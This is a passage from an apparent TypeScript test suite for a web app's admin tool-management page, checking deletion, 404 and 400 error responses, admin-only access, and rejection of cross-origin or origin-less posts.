      data: { error: "Tool not found", code: "not-found" },
    });
    expect(await post("quill", toolForm())).toMatchObject({ status: 404 });
    expect(await allTools()).toEqual([]);
    expect(services.invalidations()).toBe(before);
  });
});

describe("deleting a tool", () => {
  it("removes it with its votes and comments, says 'Tool deleted successfully' and refreshes public pages", async () => {
    const [tool, other] = await insertTools(
      database.db,
      { name: "Quill", category: "Writing" },
      { name: "Echo", category: "Audio" },
    );
    await recordVote({ db: database.db, userId: reader.id, toolId: tool!.id, rating: 3 });
    await database.db.insert(comments).values({ toolId: tool!.id, userId: reader.id, content: "Nice" });
    const before = services.invalidations();

    expectSuccess(await post(tool!.id, { intent: "delete" }), "Tool deleted successfully");
    expect(services.invalidations()).toBe(before + 1);
    expect((await allTools()).map((row) => row.id)).toEqual([other!.id]);
    expect(await database.db.select().from(toolVotes)).toEqual([]);
    expect(await database.db.select().from(comments)).toEqual([]);
    expect(await database.db.select().from(toolCategoryCounts)).toEqual([{ category: "Audio", toolCount: 1 }]);
    expect(await get(toolLoader, "/tool/quill", { id: "quill" })).toMatchObject({ status: 404 });
  });

  it("answers 404 for an unknown tool and refuses to delete an unsaved one", async () => {
    expect(await post("00000000-0000-4000-8000-000000000000", { intent: "delete" })).toMatchObject({ status: 404 });
    expect(await post("new", { intent: "delete" })).toMatchObject({ status: 400, data: { ok: false } });
  });
});

describe("who may save and delete", () => {
  it("refuses signed-out visitors and non-admins with 403 on every action, writing nothing", async () => {
    const [tool] = await insertTools(database.db, { name: "Quill" });
    const before = services.invalidations();
    for (const cookie of [null, reader.cookie]) {
      for (const [id, fields] of [
        ["new", toolForm({ name: "Intruder" })],
        [tool!.id, toolForm({ name: "Defaced" })],
        [tool!.id, { intent: "delete" }],
      ] as const) {
        expect(await post(id, fields, { cookie })).toMatchObject({ status: 403 });
      }
    }
    expect((await allTools()).map((row) => row.name)).toEqual(["Quill"]);
    expect(services.invalidations()).toBe(before);
  });

  it.each([
    ["another site's Origin", { origin: "https://evil.example" }],
    ["no Origin and no Referer", { origin: null }],
  ])("refuses an admin's post with %s", async (_label, { origin }) => {
    const [tool] = await insertTools(database.db, { name: "Quill" });
    for (const [id, fields] of [
      ["new", toolForm({ name: "Forged" })],
      [tool!.id, toolForm({ name: "Forged" })],
      [tool!.id, { intent: "delete" }],
    ] as const) {
      expect(await post(id, fields, { origin })).toMatchObject({ status: 403 });
    }
    expect((await allTools()).map((row) => row.name)).toEqual(["Quill"]);
  });

  it("answers an unknown intent with 400", async () => {
    expect(await post("new", toolForm({ intent: "publish" }))).toMatchObject({ status: 400, data: { ok: false } });
    expect(await allTools()).toEqual([]);
  });
});
